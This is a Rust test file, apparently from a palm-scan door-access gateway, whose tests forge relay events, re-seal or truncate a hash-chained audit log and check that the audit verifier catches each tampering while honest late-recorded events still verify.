    assert_eq!((&v[3]["coil"], &v[3]["door"]), (&json!(3), &json!("main")));
    (log, [rows[0].0, rows[1].0, rows[2].0])
}

/// A relay switched ON is re-derived from what the log asked: a forged `RelaySwitched` ON, with
/// the chain re-sealed, is caught whether it names a denied capture, no grant at all (and no
/// unlock window or emergency), or a relay that is not the door's; and so is a resting unlock
/// forged to go with it. An honest log verifies, including a door whose relay a new policy moved
/// while it rested unlocked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_switched_on_that_no_grant_or_unlock_asked_for_is_caught() {
    let (log, _) = relay_log().await;
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(
        r.ok(),
        "the relays did what the log asked: {:?}",
        r.findings
    );

    // The grant's pulse re-tagged with mallory's denied capture.
    let (log, [on, _, _]) = relay_log().await;
    let mut v = row_data(&log.db(), on);
    v["tag"] = json!("scan-1");
    forged_is_caught(&log.db(), on, &v, &["switched ON for scan-1", "no grant"]);

    // The OFF that locked the door after the pulse, turned into an untagged ON: no unlock
    // window or emergency rests the door unlocked then.
    let (log, [_, off, _]) = relay_log().await;
    let mut v = row_data(&log.db(), off);
    v["on"] = json!(true);
    v["tag"] = json!("");
    forged_is_caught(&log.db(), off, &v, &["switched ON, but no grant"]);

    // The emergency's ON moved to another door's relay.
    let (log, [_, _, rest]) = relay_log().await;
    let mut v = row_data(&log.db(), rest);
    v["coil"] = json!(0);
    forged_is_caught(&log.db(), rest, &v, &["not the door's relay"]);

    // The OFF that ended the grant's pulse turned into a second ON for the same grant, dated
    // (its `at`, the board's time) six hours before the grant: a pulse is asked for no earlier
    // than its grant.
    let (log, [_, off, _]) = relay_log().await;
    let mut v = row_data(&log.db(), off);
    let at = chrono::DateTime::parse_from_rfc3339(v["at"].as_str().unwrap()).unwrap()
        - chrono::Duration::hours(6);
    v["on"] = json!(true);
    v["at"] = json!(at.to_rfc3339());
    forged_is_caught(&log.db(), off, &v, &["switched ON for scan-0", "no grant"]);

    // The same OFF turned into an untagged ON dated an hour earlier: the door's resting state
    // is judged when the event is recorded, whatever `at` it names.
    let (log, [_, off, _]) = relay_log().await;
    let mut v = row_data(&log.db(), off);
    let at = chrono::DateTime::parse_from_rfc3339(v["at"].as_str().unwrap()).unwrap()
        - chrono::Duration::hours(1);
    v["on"] = json!(true);
    v["tag"] = json!("");
    v["at"] = json!(at.to_rfc3339());
    forged_is_caught(&log.db(), off, &v, &["switched ON, but no grant"]);

    // The emergency's honest ON at `lab`, dated six hours before the emergency: the door
    // rested unlocked when it was recorded, but not when its `at` says the relay moved.
    let (log, [_, _, rest]) = relay_log().await;
    let mut v = row_data(&log.db(), rest);
    let at = chrono::DateTime::parse_from_rfc3339(v["at"].as_str().unwrap()).unwrap()
        - chrono::Duration::hours(6);
    v["at"] = json!(at.to_rfc3339());
    forged_is_caught(
        &log.db(),
        rest,
        &v,
        &["door lab", "switched ON, but no grant"],
    );

    // The end of the emergency turned into a door resting unlocked: no window or emergency
    // holds it unlocked then.
    let (log, _) = relay_log().await;
    let c = Connection::open(log.db()).unwrap();
    let (pos, data): (i64, String) = c
        .query_row(
            "SELECT position, data FROM events WHERE type = 'DoorRestingChanged' \
             AND data LIKE '%\"unlocked\":false%' ORDER BY position DESC LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    v["unlocked"] = json!(true);
    forged_is_caught(
        &log.db(),
        pos,
        &v,
        &["resting unlocked", "no unlock window or emergency"],
    );
}

/// A relay report the log could not take for minutes (another process held its write lock)
/// keeps the time the board's write came back: recorded two minutes after the grant, its ON is
/// judged at that time, and the log verifies. Before, the event carried its recording time, and
/// the audit called an honest pulse "asked for by nothing" once it was recorded more than 60 s
/// after the grant.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_report_recorded_minutes_late_keeps_its_time_and_verifies() {
    use crate::doors;
    use palmgate::app::clock::ManualClock;
    use std::sync::Arc;
    use std::time::{Duration, Instant};
    let board = doors::new_board().await;
    let doc = doors::site_toml(&board, "");
    let start = chrono::Utc::now();
    let clock = Arc::new(ManualClock::new(start));
    let site = doors::start_on(board, vec![], &doc, clock.clone()).await;
    site.enroll("alice", "alice", json!({"access_level": "standard"}))
        .await;
    let mut lobby = site.reader("lobby-1", "alice", 1).await;
    // The board answers writes 300 ms after doing them: time to lock the log first.
    site.board.set_write_latency(Duration::from_millis(300));
    let (capture, r) = doors::scan(&mut lobby, "alice").await;
    assert_eq!(r["granted"], true, "{r}");
    let lock = Connection::open(site.store_path()).unwrap();
    lock.busy_timeout(Duration::from_secs(10)).unwrap();
    lock.execute_batch("BEGIN IMMEDIATE").unwrap();
    // The board's answer comes while the clock still reads `start`; the first try to record it
    // fails after the store's busy timeout (5 s), and the server says it is not ready.
    tokio::time::sleep(Duration::from_secs(1)).await;
    clock.advance(chrono::Duration::minutes(2));
    let end = Instant::now() + Duration::from_secs(15);
    loop {
        let ready = site
            .http
            .get(format!("{}/readyz", site.base))
            .send()
            .await
            .unwrap()
            .status();
        if ready == 503 {
            break;
        }
        assert!(
            Instant::now() < end,
            "the locked log never made the server unready"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    lock.execute_batch("ROLLBACK").unwrap();
    drop(lock);
    let on = site
        .wait_event("RelaySwitched", |d| d["on"] == true && d["tag"] == capture)
        .await;
    let time = |v: &Value| {
        chrono::DateTime::parse_from_rfc3339(v.as_str().unwrap())
            .unwrap()
            .with_timezone(&chrono::Utc)
    };
    let (at, recorded_at) = (time(&on["data"]["at"]), time(&on["recorded_at"]));
    assert!(
        at - start < chrono::Duration::seconds(1)
            && recorded_at - at > chrono::Duration::seconds(119),
        "the ON keeps the board's time {at}, recorded at {recorded_at}: {on}"
    );
    let r = audit::verify(&read_only(&site.store_path())).unwrap();
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    assert!(r.events > 0);
}

/// A grant's ON recorded late (the log unwritable), after a newer grant at the same door was
/// recorded, still verifies: each pulse's window is kept by its own tag, not dropped when a
/// newer pulse of the same relay is asked for. (The relays here are reports the test records
/// itself, with the board's time, as `app::relays` does.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_late_relay_report_after_a_newer_grant_at_the_same_door_verifies() {
    use palmgate::core::{Command, RelayReport};
    let t0 = chrono::Utc::now();
    let clock = std::sync::Arc::new(palmgate::app::clock::ManualClock::new(t0));
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled_on(clock.clone()).await;
    app.reader_message(ReaderId("lobby-1".into()), capture("alice", 7, "scan-0"))
        .await
        .unwrap();
    clock.advance(chrono::Duration::minutes(5));
    app.reader_message(ReaderId("lobby-1".into()), capture("alice", 8, "scan-2"))
        .await
        .unwrap();
    let coil = |on: bool, tag: &str, at| Command::Relay {
        report: RelayReport::Coil {
            device: "board-1".into(),
            coil: 0,
            on,
            tag: tag.into(),
        },
        at: Some(at),
    };
    // scan-0's pulse, written at t0 + 100 ms and ended at t0 + 3.1 s, recorded only now.
    let ms = chrono::Duration::milliseconds;
    app.execute(coil(true, "scan-0", t0 + ms(100)))
        .await
        .unwrap();
    app.execute(coil(false, "scan-0", t0 + ms(3100)))
        .await
        .unwrap();
    let now = t0 + chrono::Duration::minutes(5);
    app.execute(coil(true, "scan-2", now)).await.unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let decided = decided_rows(&log.db());
    assert_eq!(decided.len(), 2, "{decided:?}");
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}

/// A gateway that starts inside an unlock window drives the door's coil at once, from the
/// policy; with the log unwritable for minutes, the ON (dated when the board answered) is
/// recorded before the window's unlock is. The log verifies: the policy rests the door unlocked
/// at the ON's `at`, and no lock was recorded since. (Here the window is every even minute; the
/// door was recorded locked at the odd minute before.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_start_up_drive_inside_a_window_recorded_late_verifies() {
    use chrono::TimeZone;
    use palmgate::core::{Command, RelayReport};
    // 11:00:10 in Almaty (+05): an even minute.
    let t0 = chrono::Utc
        .with_ymd_and_hms(2026, 11, 27, 6, 0, 10)
        .unwrap();
    let clock = std::sync::Arc::new(palmgate::app::clock::ManualClock::new(t0));
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled_on(clock.clone()).await;
    let window = format!(
        "{}\n[[unlock_windows]]\ndoor = \"lab\"\nschedule = \"even\"\n",
        SITE.replace(
            "always = [\"* * * * * *\"]",
            "always = [\"* * * * * *\"]\neven = [\"* */2 * * * *\"]"
        )
    );
    app.execute(Command::ActivatePolicy {
        document: window,
        source: "admin".into(),
    })
    .await
    .unwrap();
    let s = chrono::Duration::seconds;
    clock.advance(s(60));
    app.execute(Command::Tick).await.unwrap(); // 11:01:10: lab locks
    // 11:02:10 the gateway starts again and drives lab's coil ON; the log cannot be written
    // until 11:06:10, when the ON is recorded before the tick records the unlock.
    let started = t0 + s(120);
    clock.advance(s(300));
    app.execute(Command::Relay {
        report: RelayReport::Coil {
            device: "board-1".into(),
            coil: 1,
            on: true,
            tag: String::new(),
        },
        at: Some(started),
    })
    .await
    .unwrap();
    app.execute(Command::Tick).await.unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let c = Connection::open(log.db()).unwrap();
    let resting: Vec<String> = c
        .prepare("SELECT data FROM events WHERE type = 'DoorRestingChanged' ORDER BY position")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(resting.len(), 3, "unlock, lock, unlock: {resting:?}");
    let r = audit::verify(&store(&log.db())).unwrap();
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}

/// Events cut off the end of a log (rows deleted, nothing re-sealed: the chain that is left is
/// intact) are caught by the head the log saved of itself at its last clean stop, reported at
/// the first missing position; the untouched log verifies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tail_cut_off_the_log_is_caught_by_the_head_it_saved() {
    use palmgate::core::event::stream;
    use palmgate::core::{Event, Expected, PartnerId, SecretHash, StreamAppend};
    use palmgate::store::EventStore;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("events.db");
    let at = chrono::DateTime::from_timestamp(1_790_000_000, 0).unwrap();
    {
        let store = SqliteStore::open(&db).unwrap();
        for n in 1..=6u8 {
            let p = PartnerId::from_random([n; 16]);
            store
                .append(
                    vec![StreamAppend {
                        stream: stream::partner(p),
                        expected: Expected::NoStream,
                        events: vec![Event::PartnerCreated {
                            partner_id: p,
                            name: format!("p{n}"),
                            api_key_hash: SecretHash(format!("{n:064}")),
                            at,
                        }],
                    }],
                    at,
                )
                .await
                .unwrap();
        }
        store.close();
    }
    let r = audit::verify(&store(&db)).unwrap();
    assert!(r.ok(), "{:?}", r.findings);
    assert_eq!(r.head.as_ref().map(|(p, _)| *p), Some(6));

    Connection::open(&db)
        .unwrap()
        .execute("DELETE FROM events WHERE position >= 5", [])
        .unwrap();
    let r = audit::verify(&store(&db)).unwrap();
    assert_eq!(r.findings.len(), 1, "{:?}", r.findings);
    assert_eq!(r.findings[0].position, 5);
    assert!(
        r.findings[0].problem.contains("ends at position 4")
            && r.findings[0].problem.contains("5..=6"),
        "{:?}",
        r.findings
    );
}

/// What a forger with write access can make consistent (here a capture's quality rewritten in
/// a grant, the chain and the saved head re-sealed; then the tail cut and the saved head moved
/// back with it) passes `verify` alone, as the README says; the head printed by an earlier
/// verify and given back with `--expect-head` catches both. The untouched log passes with it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_head_kept_elsewhere_catches_a_resealed_rewrite_and_a_cut_tail() {
    let log = make_log().await;
    let db = log.db();
    let before = audit::verify(&store(&db)).unwrap();
    assert!(before.ok(), "{:?}", before.findings);
    let (last, hash) = before.head.clone().unwrap();
    let kept = audit::parse_head(&format!("{last}:{hash}")).unwrap();
    let mut r = audit::verify(&store(&db)).unwrap();
    audit::check_expected_head(&store(&db), &mut r, kept).unwrap();
    assert!(
        r.ok(),
        "the untouched log holds its own head: {:?}",
        r.findings
    );

    // A grant's capture quality rewritten: consistent, so verify alone passes.
    let (pos, data) = decided_rows(&db)[0].clone();
    let mut v: Value = serde_json::from_str(&data).unwrap();
    v["quality"] = json!(0.99);
    forge(&db, pos, &serde_json::to_string(&v).unwrap());
    let mut r = audit::verify(&store(&db)).unwrap();
    assert!(
        r.ok(),
        "a consistent rewrite passes alone: {:?}",
        r.findings
    );
    audit::check_expected_head(&store(&db), &mut r, kept).unwrap();
    assert_eq!(r.findings.len(), 1, "{:?}", r.findings);
    assert_eq!(r.findings[0].position, last);
    assert!(
        r.findings[0]
            .problem
            .contains("the head kept elsewhere (--expect-head) is here with hash")
            && r.findings[0].problem.contains("rewritten"),
        "{:?}",
        r.findings
    );

    // The last event cut off, and the saved head moved back to the new end.
    let c = Connection::open(&db).unwrap();
    c.execute("DELETE FROM events WHERE position = ?1", [last as i64])
        .unwrap();
    c.execute(
        "UPDATE store_heads SET position = ?1, hash = (SELECT hash FROM events WHERE position = ?1)",
        [last as i64 - 1],
    )
    .unwrap();
    let mut r = audit::verify(&store(&db)).unwrap();
    assert!(
        r.ok(),
        "a cut tail with its saved head moved passes alone: {:?}",
        r.findings
    );
    audit::check_expected_head(&store(&db), &mut r, kept).unwrap();
    assert_eq!(r.findings.len(), 1, "{:?}", r.findings);
    assert!(
        r.findings[0].problem.contains(&format!(
            "the log ends at position {}, but the head kept elsewhere (--expect-head) is at \
             position {last}",
            last - 1
        )),
        "{:?}",
        r.findings
    );
}

/// `--expect-head` takes the head as `verify` prints it, and refuses anything else by name.
#[test]
fn an_expected_head_is_parsed_as_verify_prints_it() {
    let hash = "ab".repeat(32);
    assert_eq!(
        audit::parse_head(&format!("42:{hash}")).unwrap(),
        (42, [0xab; 32])
    );
    for bad in [
        "42",
        "x:ab",
        &format!("42:{}", &hash[..62]),
        "42:zz",
        &format!("0:{hash}"),
    ] {
        let e = audit::parse_head(bad).unwrap_err();
        assert!(e.starts_with("--expect-head "), "{bad}: {e}");
    }
}

/// A door scan searches only the admitted partners' users: one made while the partner was not
/// admitted matched nobody and names no person. A candidate that admits the partner is told how
/// many such scans there are (review, session 25: it said "0 would change"); the policy in
/// force says nothing of them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_if_counts_the_scans_that_matched_nobody_while_a_partner_it_admits_was_not() {
    let closed = SITE.replacen(
        "timezone = \"Asia/Almaty\"",
        "timezone = \"Asia/Almaty\"\npartners = [\"Nobody\"]",
        1,
    );
    assert_ne!(closed, SITE);
    let Enrolled {
        dir,
        config,
        server,
        app,
        ..
    } = enrolled_with(
        &closed,
        std::sync::Arc::new(palmgate::app::clock::SystemClock),
    )
    .await;
    app.reader_message(
        ReaderId("lobby-1".into()),
        capture("alice", 500, "walk-closed"),
    )
    .await
    .unwrap();
    drop(server);
    app.close();
    drop(app);
    let log = Log { dir, config };
    let (code, out) = what_if_cli(&log, SITE);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(
        out,
        "1 door scan(s) in range matched nobody while partner(s) \"Acme\" were not admitted; \
         the candidate admits them; a scan that matched nobody names no person, so they cannot \
         be re-decided\n1 decisions replayed, 0 would change\n"
    );
    let (code, out) = what_if_cli(&log, &closed);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(out, "1 decisions replayed, 0 would change\n");
}
